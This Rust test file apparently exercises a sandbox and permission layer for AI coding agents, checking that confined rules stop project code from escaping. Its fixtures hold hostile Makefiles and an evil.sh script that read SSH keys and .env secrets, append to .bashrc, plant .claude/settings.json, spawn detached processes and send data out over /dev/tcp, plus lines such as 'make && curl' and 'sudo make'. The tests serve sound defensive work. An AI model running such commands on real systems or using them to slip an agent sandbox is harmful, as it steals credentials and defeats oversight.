//! Attacks on rules that name a profile.
//!
//! An agent that was allowed something always, confined, gets nothing outside of its folders, with any
//! content of the files that the rule runs.

use crate::runs::{output, worked};
use postern_tests::{Agent, Arena, Postern};
use serde_json::{Value, json};
use std::fs;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

const SECRET: &str = "THE-PERSONS-KEY";

/// Starts an agent with a folder of its own and no class.
fn builder(arena: &Arena) -> Agent {
    let folders = format!("folders={}", arena.outside().join("project-main").display());
    arena.agent("main", &[&folders])
}

/// Requests what must be asked about, returns the question and withdraws the request.
fn asked(arena: &Arena, agent: &mut Agent, params: Value) -> Value {
    let watcher = arena.watch();
    let line = params.to_string();
    let posted = agent.post(params);
    assert_eq!(posted["state"], "asking", "{line}: {posted}");
    let question = watcher.question();
    agent.call("system.kill", &json!({ "requestId": posted["requestId"] }));
    question
}

#[test]
fn a_makefile_that_changes_after_always_confined_gets_nothing() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = builder(&arena);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let reached = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&reached);
    std::thread::spawn(move || listener.incoming().for_each(|_| _ = count.fetch_add(1, Ordering::SeqCst)));
    let home = arena.home().to_owned();
    fs::create_dir_all(home.join(".ssh")).unwrap();
    fs::write(home.join(".ssh/id_rsa"), SECRET).unwrap();
    agent.write("Makefile", "test:\n\t@echo passed > result\n", 0o644);
    let watcher = arena.watch();
    let posted = agent.post(json!({ "shell": "make test" }));
    let question = watcher.question();
    let first = &question["proposals"][0];
    assert_eq!(first["id"], "confined", "{question}");
    assert_eq!(first["rules"][0]["confine"], "project");
    let saved = arena.approve(&question, &["--always", "confined"]);
    assert!(saved.code == 0 && saved.stdout.contains("confined"), "{saved:?}");
    let started = agent.event(&["exec.started", "exec.denied"], &posted);
    assert_eq!(
        started["params"]["profile"], "project",
        "the run that was asked about is confined, too: {started}"
    );
    agent.end(&posted);
    assert_eq!(fs::read_to_string(agent.project().join("result")).unwrap(), "passed\n");

    let (at_home, data) = (home.display(), arena.data().display());
    let evil = format!(
        "test:\n\t-cat {at_home}/.ssh/id_rsa {data}/control.key\n\t-echo x > {at_home}/mark\n\
         \t-echo x >> {at_home}/.bashrc\n\t-mkdir -p .git/hooks .claude; echo x > .claude/settings.json\n\
         \t-bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo leak >&3'\n\
         \t-(sleep 0.2; echo x > {at_home}/mark) & setsid sh -c 'echo x > {at_home}/mark' &\n\t@echo evil ran\n"
    );
    agent.write("Makefile", &evil, 0o644);
    agent.write("evil.mk", &evil, 0o644);
    let control = fs::read_to_string(arena.data().join("control.key")).unwrap();
    for line in [
        "make test", "make -f evil.mk test", "make SHELL=/bin/bash test", "X=1 make test",
        "make -f - test < evil.mk",
    ] {
        let (started, end) = worked(&mut agent, line);
        assert_eq!(started["params"]["profile"], "project", "{line}: {started}");
        assert!(
            started["params"]["by"].to_string().contains("rule"),
            "{line}: a rule let it through: {started}"
        );
        let said = output(&end);
        assert!(said.contains("evil ran"), "the attack itself ran: {line}: {end}");
        assert!(!said.contains(SECRET) && !said.contains(control.trim()), "{line} read it: {said}");
    }
    assert!(!home.join("mark").exists() && !home.join(".bashrc").exists(), "it wrote outside");
    assert!(!agent.project().join(".claude/settings.json").exists(), "it planted settings");
    assert_eq!(reached.load(Ordering::SeqCst), 0, "it connected");
    assert!(arena.ok(&["rules", "list"]).contains("confined (project)"));
}

#[test]
fn nothing_makes_a_confined_rule_let_through_more_than_its_profile_holds() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = builder(&arena);
    let home = arena.home().display().to_string();
    agent.write("Makefile", "test:\n\t@echo ran > result\n", 0o644);
    arena.ok(&["rules", "allow", "make *", "--agent", agent.id(), "--confine", "project"]);
    arena.ok(&["rules", "allow", "bash *", "--agent", agent.id(), "--confine", "project"]);
    for line in [
        "make -C /".to_owned(),
        "make > /srv/postern-mark".to_owned(),
        "make > .git/hooks/pre-commit".to_owned(),
        "make && curl http://127.0.0.1:9".to_owned(),
        "sudo make".to_owned(),
        "bash -c 'git push origin main'".to_owned(),
        format!("bash -c 'cat {home}/.ssh/id_rsa'"),
    ] {
        asked(&arena, &mut agent, json!({ "shell": line }));
    }
    let open = asked(
        &arena,
        &mut agent,
        json!({ "shell": "make test", "confine": "none", "reason": "it needs the network" }),
    );
    assert!(open.to_string().contains("it asks to run with your rights"), "{open}");
    assert!(!agent.project().join("result").exists(), "nothing of it ran");
    // Beside a step that a rule allows with the person's rights, it is not let through with them.
    arena.ok(&["rules", "allow", "git push *", "--agent", agent.id()]);
    let mixed = asked(&arena, &mut agent, json!({ "shell": "make test && git push" }));
    assert!(mixed.to_string().contains("beside the other steps"), "{mixed}");
    let explained =
        arena.ok(&["explain", "--agent", agent.id(), "--cwd", &agent.path(""), "--", "make", "test"]);
    assert!(explained.contains("confined (project)") && explained.contains("writes in"), "{explained}");
    let (started, _) = worked(&mut agent, "make test");
    assert_eq!(started["params"]["profile"], "project");
}

#[test]
fn a_rule_that_only_looks_holds_code_to_it() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = builder(&arena);
    agent.write("Makefile", "lint:\n\t-@echo x > written\n\t@echo linted\n", 0o644);
    arena.ok(&["rules", "allow", "make lint", "--agent", agent.id(), "--confine", "look"]);
    let (started, end) = worked(&mut agent, "make lint");
    assert_eq!(started["params"]["profile"], "look", "{started}");
    assert!(output(&end).contains("linted"), "{end}");
    assert!(!agent.project().join("written").exists(), "it wrote");
}

/// Lets an agent's makefile try to write outside, by a rule that is there already: it must run confined, silently.
fn only_confined(arena: &Arena, agent: &mut Agent) {
    let mark = arena.home().join("mark");
    let text = format!("test:\n\t-@echo x > {}\n\t@echo ran >> result\n", mark.display());
    agent.write("Makefile", &text, 0o644);
    let (started, end) = worked(agent, "make test");
    assert_eq!(started["params"]["profile"], "project", "{started}");
    assert!(agent.project().join("result").exists() && !mark.exists(), "{end}");
}

#[test]
fn an_imported_rule_confines_as_the_exported_one_did() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = builder(&arena);
    let file = arena.outside().join("rules.json");
    let row = arena.json(&["rules", "allow", "make *", "--agent", agent.id(), "--confine", "project"]);
    fs::write(&file, arena.ok(&["rules", "export"])).unwrap();
    arena.ok(&["rules", "remove", &row["rule"]["id"].to_string()]);
    asked(&arena, &mut agent, json!({ "shell": "make test" }));
    let wrong = fs::read_to_string(&file).unwrap().replace("\"project\"", "\"projekt\"");
    let refused_file = arena.outside().join("wrong.json");
    fs::write(&refused_file, wrong).unwrap();
    let refused = arena.run(&["rules", "import", &refused_file.display().to_string()]);
    assert_ne!(refused.code, 0, "a profile that is none is no rule without one: {refused:?}");
    asked(&arena, &mut agent, json!({ "shell": "make test" }));
    arena.ok(&["rules", "import", &file.display().to_string()]);
    only_confined(&arena, &mut agent);
}

#[test]
fn a_rule_of_the_organization_confines_as_well() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().canonicalize().unwrap().join("managed.jsonc");
    let rules = json!([{ "effect": "allow", "text": "make *", "confine": "project" }]);
    fs::write(&file, json!({ "version": 1, "organisation": "ACME", "rules": rules }).to_string()).unwrap();
    let place = file.display().to_string();
    let Some(arena) = Arena::open_with(|| Postern::start_with(&[("POSTERN_MANAGED", &place)])) else {
        return;
    };
    let mut agent = builder(&arena);
    only_confined(&arena, &mut agent);
    asked(&arena, &mut agent, json!({ "shell": "make test && curl http://127.0.0.1:9" }));
}

#[test]
fn a_rule_whose_time_is_over_lets_nothing_through() {
    let Some(mut arena) = Arena::open_own() else { return };
    let mut agent = builder(&arena);
    agent.write("Makefile", "test:\n\t@echo ran > result\n", 0o644);
    arena.ok(&["rules", "allow", "make *", "--agent", agent.id(), "--confine", "project", "--for", "1s"]);
    let (id, folder) = (agent.id().to_owned(), agent.path(""));
    arena.host().until(&["explain", "--agent", &id, "--cwd", &folder, "--", "make", "test"], "ask  ");
    asked(&arena, &mut agent, json!({ "shell": "make test" }));
    asked(&arena, &mut agent, json!({ "shell": "make test", "confine": "none", "reason": "x" }));
    assert!(!agent.project().join("result").exists(), "nothing of it ran");
}

#[test]
fn a_host_that_cannot_confine_asks_and_says_why() {
    let Some(arena) = Arena::open_with(Postern::start_without_bubblewrap) else { return };
    let mut agent = builder(&arena);
    agent.write("Makefile", "test:\n\t@echo ran > result\n", 0o644);
    let doctor = arena.run(&["doctor"]);
    assert!(doctor.stdout.contains("/usr/bin/bwrap"), "{doctor:?}");
    arena.ok(&["rules", "allow", "make *", "--agent", agent.id(), "--confine", "project"]);
    let by_rule = asked(&arena, &mut agent, json!({ "shell": "make test" }));
    assert!(by_rule.to_string().contains("this system can’t confine it"), "{by_rule}");
    arena.ok(&["agents", "set", agent.id(), "look=allow", "files=allow", "build=allow", "--yes"]);
    for line in [
        "make test", "echo x > result", "make -n test && touch result",
        "python3 -c 'open(\"result\", \"w\")'",
    ] {
        let question = asked(&arena, &mut agent, json!({ "shell": line }));
        assert!(question.to_string().contains("this system can’t confine it"), "{line}: {question}");
    }
    for confine in ["look", "project"] {
        let posted = agent.post(json!({ "shell": "make test", "confine": confine }));
        if posted["state"] == "asking" {
            agent.call("system.kill", &json!({ "requestId": posted["requestId"] }));
        }
    }
    assert!(!agent.project().join("result").exists(), "nothing of it ran");
}

#[test]
fn what_a_rule_denies_is_not_there_for_code_of_the_project() {
    let Some(arena) = Arena::open() else { return };
    let mut agent = builder(&arena);
    arena.ok(&["agents", "set", agent.id(), "look=allow", "files=allow", "build=allow", "--yes"]);
    agent.sh("mkdir deep vault");
    agent.write(".env", SECRET, 0o644);
    agent.write("deep/.env", SECRET, 0o644);
    agent.write("vault/key", SECRET, 0o644);
    agent.write("real", SECRET, 0o644);
    agent.write("versions.lock", "mine\n", 0o644);
    agent.sh("ln -s ../real deep/.env.link && mkdir l && ln -s ../real l/.env");
    let evil = "#!/bin/bash\n\
        cat .env deep/.env l/.env real vault/key; cat < .env; grep -r THE . ; head -c 99 /proc/self/cwd/.env\n\
        chmod 644 .env; ln .env hard; cat hard; mv deep shallow; cat shallow/.env; cp -r deep copy; cat copy/.env\n\
        tar c . | tr -d '\\0'; python3 -c 'print(open(\".env\").read())'; (cd deep; cat .env)\n\
        echo evil > versions.lock; rm -f versions.lock; mv real x; cat x\n\
        echo evil ran; exit 0\n";
    agent.write("evil.sh", evil, 0o755);
    agent.write("Makefile", "all:\n\t@./evil.sh\n", 0o644);
    let (_, end) = worked(&mut agent, "make");
    assert!(output(&end).contains(SECRET), "the attack works without the rules: {end}");
    agent.sh("rm -rf copy shallow hard x versions.lock; mkdir -p deep; [ -e real ] || echo none");
    for (file, text) in [("deep/.env", SECRET), ("real", SECRET), ("versions.lock", "mine\n")] {
        agent.write(file, text, 0o644);
    }
    let vault = format!("{}/**", agent.path("vault"));
    arena.ok(&["rules", "deny", "--read", "**/.env", "--agent", agent.id()]);
    arena.ok(&["rules", "deny", "--read", &vault, "--agent", agent.id()]);
    arena.ok(&["rules", "deny", "--write", "**/*.lock", "--agent", agent.id()]);
    arena.ok(&["rules", "allow", "make look", "--agent", agent.id(), "--confine", "look"]);
    agent.write("Makefile", "all:\n\t@./evil.sh\nlook:\n\t@bash evil.sh\n", 0o644);
    for (line, profile) in [("make", "project"), ("./evil.sh", "project"), ("make look", "look")] {
        let (started, end) = worked(&mut agent, line);
        assert_eq!(started["params"]["profile"], profile, "{line}: {started}");
        let said = output(&end);
        assert!(said.contains("evil ran") && !said.contains(SECRET), "{line}: {said}");
    }
    assert_eq!(fs::read_to_string(agent.project().join("versions.lock")).unwrap(), "mine\n");
    assert_eq!(
        fs::read_to_string(agent.project().join(".env")).unwrap(),
        SECRET,
        "it is there for the person"
    );
    let explained = arena.ok(&["explain", "--agent", agent.id(), "--cwd", &agent.path(""), "--", "make"]);
    assert!(explained.contains("It can’t read `**/.env`"), "{explained}");
    agent.sh("ln .env other-name");
    let posted = agent.post(json!({ "shell": "make" }));
    let end = agent.end(&posted);
    assert!(end.to_string().contains("hard links"), "another name would show it: {end}");
}
